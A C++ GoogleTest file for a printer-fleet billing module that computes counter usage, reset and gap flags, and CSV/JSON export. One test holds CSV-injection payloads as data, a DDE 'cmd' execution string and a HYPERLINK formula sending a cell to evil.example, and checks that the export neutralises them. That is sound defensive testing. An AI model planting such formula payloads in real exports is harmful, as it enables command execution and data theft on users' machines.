#include "core/billing.h"

#include <gtest/gtest.h>

namespace printrelay {
namespace {

constexpr TimeMs kHour = 3600LL * 1000;
constexpr TimeMs kDay = 24 * kHour;
// 2026-11-01T00:00:00Z
constexpr TimeMs kNov1 = 1793491200000;

TimeMs day(int n) { return kNov1 + (n - 1) * kDay; }

MeterReading reading(TimeMs at, std::map<std::string, std::int64_t> counters) {
  return MeterReading{at, std::move(counters)};
}

BillingPeriod november() { return *billing_period(day(1), day(31)); }

const CounterUsage& counter(const DeviceUsage& u, const std::string& name) {
  for (const auto& c : u.counters) {
    if (c.counter == name) return c;
  }
  ADD_FAILURE() << "no counter " << name;
  static const CounterUsage none;
  return none;
}

std::vector<std::string> kinds(const std::vector<BillingFlag>& flags) {
  std::vector<std::string> out;
  for (const auto& f : flags) out.push_back(f.kind);
  return out;
}

TEST(Billing, PeriodMustEndAfterItStarts) {
  EXPECT_TRUE(billing_period(day(1), day(2)));
  auto same = billing_period(day(2), day(2));
  ASSERT_FALSE(same);
  EXPECT_EQ(same.error().kind, ErrorKind::kBadInput);
  EXPECT_FALSE(billing_period(day(3), day(2)));
  EXPECT_FALSE(compute_usage({}, BillingPeriod{day(3), day(2)}));
  EXPECT_FALSE(compute_usage({}, november(), BillingOptions{0}));
}

TEST(Billing, ParsesPeriodTimes) {
  auto p = parse_billing_period("2026-11-01T00:00:00Z", "2026-12-01T00:00:00Z");
  ASSERT_TRUE(p);
  EXPECT_EQ(p->from, kNov1);
  EXPECT_EQ(p->to, day(31));

  auto bad_from = parse_billing_period("yesterday", "2026-12-01T00:00:00Z");
  ASSERT_FALSE(bad_from);
  EXPECT_EQ(bad_from.error().kind, ErrorKind::kBadInput);
  EXPECT_EQ(bad_from.error().message.rfind("from: ", 0), 0u) << bad_from.error().message;
  auto bad_to = parse_billing_period("2026-11-01T00:00:00Z", "2026-12-01");
  ASSERT_FALSE(bad_to);
  EXPECT_EQ(bad_to.error().message.rfind("to: ", 0), 0u) << bad_to.error().message;
  EXPECT_FALSE(parse_billing_period("", "2026-12-01T00:00:00Z"));
  EXPECT_FALSE(parse_billing_period("2026-12-01T00:00:00Z", "2026-11-01T00:00:00Z"));
}

TEST(Billing, FlattensNestedCountersAndIgnoresOtherValues) {
  Json body = {{"total", 120},       {"color", 20},  {"paper", {{"A4", 100}, {"A3", 20}}},
               {"model", "MX-4070"}, {"ratio", 0.5}, {"negative", -3},
               {"list", {1, 2}},     {"on", true}};
  auto c = flatten_counters(body);
  std::map<std::string, std::int64_t> want = {
      {"total", 120}, {"color", 20}, {"paper.A4", 100}, {"paper.A3", 20}};
  EXPECT_EQ(c, want);
  EXPECT_TRUE(flatten_counters(Json::array()).empty());
}

TEST(Billing, NormalPeriodSumsStepsBetweenReadings) {
  std::vector<MeterReading> readings = {
      reading(day(1), {{"total", 1000}, {"color", 100}}),
      reading(day(2), {{"total", 1100}, {"color", 110}}),
      reading(day(3), {{"total", 1250}, {"color", 110}}),
  };
  auto u = compute_usage(readings, *billing_period(day(1), day(3) + kHour));
  ASSERT_TRUE(u);
  EXPECT_TRUE(u->flags.empty()) << flag_text(u->flags.front());
  ASSERT_EQ(u->counters.size(), 2u);
  EXPECT_EQ(u->counters[0].counter, "color");  // ordered by name
  const auto& total = counter(*u, "total");
  EXPECT_EQ(total.start, 1000);
  EXPECT_EQ(total.start_at, day(1));
  EXPECT_EQ(total.end, 1250);
  EXPECT_EQ(total.end_at, day(3));
  EXPECT_EQ(total.difference, 250);
  EXPECT_EQ(counter(*u, "color").difference, 10);
  EXPECT_EQ(*u->start_at, day(1));
  EXPECT_EQ(*u->end_at, day(3));
}

TEST(Billing, UsesTheLastReadingBeforeTheStartAndIgnoresReadingsAfterTheEnd) {
  const TimeMs from = day(10);
  const TimeMs to = day(12);
  std::vector<MeterReading> readings = {
      reading(to + kHour, {{"total", 9999}}),  // after the period: ignored
      reading(from - 2 * kHour, {{"total", 500}}),
      reading(from - 30 * kDay, {{"total", 10}}),  // older than the start reading: ignored
      reading(from + kDay, {{"total", 560}}),
      reading(to - kHour, {{"total", 600}}),
      reading(to, {{"total", 700}}),  // `to` is exclusive
  };
  auto u = compute_usage(readings, *billing_period(from, to));
  ASSERT_TRUE(u);
  EXPECT_TRUE(u->flags.empty());
  const auto& total = counter(*u, "total");
  EXPECT_EQ(total.start, 500);
  EXPECT_EQ(total.start_at, from - 2 * kHour);
  EXPECT_EQ(total.end, 600);
  EXPECT_EQ(total.end_at, to - kHour);
  EXPECT_EQ(total.difference, 100);
}

TEST(Billing, ReadingExactlyAtTheStartIsTheStartReading) {
  auto u = compute_usage({reading(day(1), {{"total", 7}}), reading(day(2), {{"total", 9}})},
                         *billing_period(day(1), day(2) + kHour));
  ASSERT_TRUE(u);
  EXPECT_TRUE(u->flags.empty());
  EXPECT_EQ(counter(*u, "total").start, 7);
  EXPECT_EQ(counter(*u, "total").difference, 2);
}

TEST(Billing, ResetIsFlaggedAndCountedFromTheNewValue) {
  std::vector<MeterReading> readings = {
      reading(day(1), {{"total", 1000}, {"color", 50}}),
      reading(day(2), {{"total", 1200}, {"color", 60}}),
      reading(day(3), {{"total", 30}, {"color", 70}}),  // controller replaced: total restarts
      reading(day(4), {{"total", 80}, {"color", 75}}),
  };
  auto u = compute_usage(readings, *billing_period(day(1), day(4) + kHour));
  ASSERT_TRUE(u);
  EXPECT_TRUE(u->flags.empty());  // a reset belongs to its counter, not the device
  const auto& total = counter(*u, "total");
  EXPECT_EQ(total.start, 1000);
  EXPECT_EQ(total.end, 80);
  EXPECT_EQ(total.difference, 200 + 50);  // never negative: the step down adds nothing
  ASSERT_EQ(total.resets.size(), 1u);
  EXPECT_EQ(total.resets[0].kind, "reset");
  EXPECT_EQ(total.resets[0].counter, "total");
  EXPECT_EQ(total.resets[0].at, day(3));
  EXPECT_EQ(*total.resets[0].value_before, 1200);
  EXPECT_EQ(*total.resets[0].value_after, 30);
  EXPECT_TRUE(counter(*u, "color").resets.empty());
  EXPECT_EQ(counter(*u, "color").difference, 25);

  auto rows = billing_rows({"S-1", "MX", "ACME", "Floor 1"}, *u);
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[1].counter, "total");
  EXPECT_EQ(kinds(rows[1].flags), std::vector<std::string>{"reset"});
  EXPECT_TRUE(rows[0].flags.empty());
  Json j = to_json(rows[1]);
  EXPECT_EQ(j["flags"][0]["counter"], "total");
  EXPECT_EQ(j["flags"][0]["value_after"], 30);
  EXPECT_EQ(j["flags_text"], "reset@" + format_time(day(3)));
}

TEST(Billing, GapBetweenReadingsInsideThePeriodIsFlaggedWithWhere) {
  std::vector<MeterReading> readings = {
      reading(day(1), {{"total", 0}}),
      reading(day(2), {{"total", 10}}),
      reading(day(6), {{"total", 50}}),  // 4 days after the previous one
      reading(day(7), {{"total", 55}}),
  };
  auto u = compute_usage(readings, *billing_period(day(1), day(7) + kHour));
  ASSERT_TRUE(u);
  ASSERT_EQ(kinds(u->flags), std::vector<std::string>{"gap"});
  EXPECT_EQ(u->flags[0].at, day(2));
  EXPECT_EQ(*u->flags[0].until, day(6));
  EXPECT_EQ(flag_text(u->flags[0]), "gap@" + format_time(day(2)) + "/" + format_time(day(6)));
  EXPECT_EQ(counter(*u, "total").difference, 55);  // pages in a gap are still counted

  // Two days apart exactly is not a gap; a larger maximum gap accepts four days.
  EXPECT_TRUE(compute_usage({reading(day(1), {{"total", 0}}), reading(day(3), {{"total", 1}})},
                            *billing_period(day(1), day(3) + kHour))
                  ->flags.empty());
  EXPECT_TRUE(
      compute_usage(readings, *billing_period(day(1), day(7) + kHour), BillingOptions{5 * kDay})
          ->flags.empty());
}

TEST(Billing, NoReadingsBeforeTheEnd) {
  auto none = compute_usage({}, november());
  ASSERT_TRUE(none);
  EXPECT_EQ(kinds(none->flags), std::vector<std::string>{"no_readings"});
  EXPECT_TRUE(none->counters.empty());
  EXPECT_FALSE(none->start_at);

  auto only_later = compute_usage({reading(day(31), {{"total", 5}})}, november());
  ASSERT_TRUE(only_later);
  EXPECT_EQ(kinds(only_later->flags), std::vector<std::string>{"no_readings"});

  auto rows = billing_rows({"S-9", "MX", "ACME", "Lobby"}, *none);
  ASSERT_EQ(rows.size(), 1u);  // the device is listed, flagged, without a counter
  EXPECT_EQ(rows[0].counter, "");
  EXPECT_FALSE(rows[0].difference);
  EXPECT_EQ(to_csv(rows),
            std::string(kBillingCsvHeader) + "\r\nS-9,MX,ACME,Lobby,,,,,,,no_readings\r\n");
  EXPECT_TRUE(to_json(rows[0])["difference"].is_null());
}

TEST(Billing, StartLateWhenTheFirstReadingIsInsideThePeriod) {
  std::vector<MeterReading> readings = {
      reading(day(5), {{"total", 400}}),
      reading(day(6), {{"total", 450}}),
  };
  auto u = compute_usage(readings, *billing_period(day(4), day(6) + kHour));
  ASSERT_TRUE(u);
  ASSERT_EQ(kinds(u->flags), std::vector<std::string>{"start_late"});
  EXPECT_EQ(u->flags[0].at, day(5));
  EXPECT_EQ(counter(*u, "total").start, 400);
  EXPECT_EQ(counter(*u, "total").start_at, day(5));
  EXPECT_EQ(counter(*u, "total").difference, 50);
}

TEST(Billing, EndEarlyWhenTheLastReadingIsLongBeforeTheEnd) {
  std::vector<MeterReading> readings = {
      reading(day(1) - kHour, {{"total", 10}}),
      reading(day(2), {{"total", 20}}),
  };
  auto u = compute_usage(readings, november());
  ASSERT_TRUE(u);
  ASSERT_EQ(kinds(u->flags), std::vector<std::string>{"end_early"});
  EXPECT_EQ(u->flags[0].at, day(2));
  EXPECT_EQ(counter(*u, "total").difference, 10);

  // Only a reading before the period: start and end are that reading, nothing counted.
  auto stale = compute_usage({reading(day(1) - kHour, {{"total", 10}})}, november());
  ASSERT_TRUE(stale);
  EXPECT_EQ(kinds(stale->flags), std::vector<std::string>{"end_early"});
  EXPECT_EQ(counter(*stale, "total").difference, 0);
}

TEST(Billing, CounterFirstSeenLaterStartsWhereItIsSeen) {
  std::vector<MeterReading> readings = {
      reading(day(1), {{"total", 10}}),
      reading(day(2), {{"total", 20}, {"fax", 3}}),
      reading(day(3), {{"total", 30}}),  // fax missing: keeps its last value
      reading(day(4), {{"total", 40}, {"fax", 5}}),
  };
  auto u = compute_usage(readings, *billing_period(day(1), day(4) + kHour));
  ASSERT_TRUE(u);
  const auto& fax = counter(*u, "fax");
  EXPECT_EQ(fax.start_at, day(2));
  EXPECT_EQ(fax.start, 3);
  EXPECT_EQ(fax.end_at, day(4));
  EXPECT_EQ(fax.difference, 2);
}

TEST(Billing, CsvQuotesFieldsAndOrdersBySerialThenCounter) {
  auto u = compute_usage({reading(day(1), {{"total", 10}, {"color", 1}}),
                          reading(day(2), {{"total", 15}, {"color", 2}})},
                         *billing_period(day(1), day(2) + kHour));
  ASSERT_TRUE(u);
  auto rows_b = billing_rows({"S-2", "MX-4070", "Smith, \"Big\" Print", "Floor 2\nEast"}, *u);
  auto rows_a = billing_rows({"S-1", "MX-4070", "ACME", "Lobby"}, *u);
  std::vector<BillingRow> rows = rows_b;
  rows.insert(rows.end(), rows_a.begin(), rows_a.end());
  const std::string d1 = format_time(day(1)), d2 = format_time(day(2));
  EXPECT_EQ(to_csv(rows),
            "serial,model,customer,place,counter,start_at,start,end_at,end,difference,flags\r\n"
            "S-1,MX-4070,ACME,Lobby,color," +
                d1 + ",1," + d2 +
                ",2,1,\r\n"
                "S-1,MX-4070,ACME,Lobby,total," +
                d1 + ",10," + d2 +
                ",15,5,\r\n"
                "S-2,MX-4070,\"Smith, \"\"Big\"\" Print\",\"Floor 2\nEast\",color," +
                d1 + ",1," + d2 +
                ",2,1,\r\n"
                "S-2,MX-4070,\"Smith, \"\"Big\"\" Print\",\"Floor 2\nEast\",total," +
                d1 + ",10," + d2 + ",15,5,\r\n");
  EXPECT_EQ(csv_field("plain"), "plain");
  EXPECT_EQ(csv_field("a\rb"), "\"a\rb\"");
}

TEST(Billing, CsvTextCellsThatCouldBeFormulasAreNeutralised) {
  // Device- and customer-chosen text (OWASP "CSV Injection"): shown as text, never evaluated.
  BillingRow row;
  row.serial = "@SUM(1+1)";
  row.model = "+cmd|' /C calc'!A0";
  row.customer = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Pay here\")";
  row.place = "\tLobby";
  row.counter = "-2+3";
  row.start = -5;  // numbers stay numbers, negative ones too
  row.end = 7;
  row.difference = -12;
  EXPECT_EQ(to_csv({row}),
            std::string(kBillingCsvHeader) +
                "\r\n\"'@SUM(1+1)\",\"'+cmd|' /C calc'!A0\","
                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Pay here\"\")\","
                "\"'\tLobby\",\"'-2+3\",,-5,,7,-12,\r\n");
  EXPECT_EQ(csv_text_field("\r=1+1"), "\"'\r=1+1\"");
  EXPECT_EQ(csv_text_field("-"), "\"'-\"");
  EXPECT_EQ(csv_text_field("Lobby = east"), "Lobby = east");  // only the first character counts
  EXPECT_EQ(csv_text_field("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_text_field(""), "");
}

TEST(Billing, CsvJoinsSeveralFlags) {
  std::vector<MeterReading> readings = {
      reading(day(2), {{"total", 100}}),
      reading(day(5), {{"total", 5}}),
  };
  auto u = compute_usage(readings, *billing_period(day(1), day(10)));
  ASSERT_TRUE(u);
  EXPECT_EQ(kinds(u->flags), (std::vector<std::string>{"start_late", "gap", "end_early"}));
  auto rows = billing_rows({"S-1", "MX", "ACME", "Lobby"}, *u);
  ASSERT_EQ(rows.size(), 1u);
  const std::string csv = to_csv(rows);
  const std::string want_flags = "start_late@" + format_time(day(2)) + ";gap@" +
                                 format_time(day(2)) + "/" + format_time(day(5)) + ";end_early@" +
                                 format_time(day(5)) + ";reset@" + format_time(day(5)) + "\r\n";
  EXPECT_EQ(csv.substr(csv.size() - want_flags.size()), want_flags) << csv;
}

}  // namespace
}  // namespace printrelay
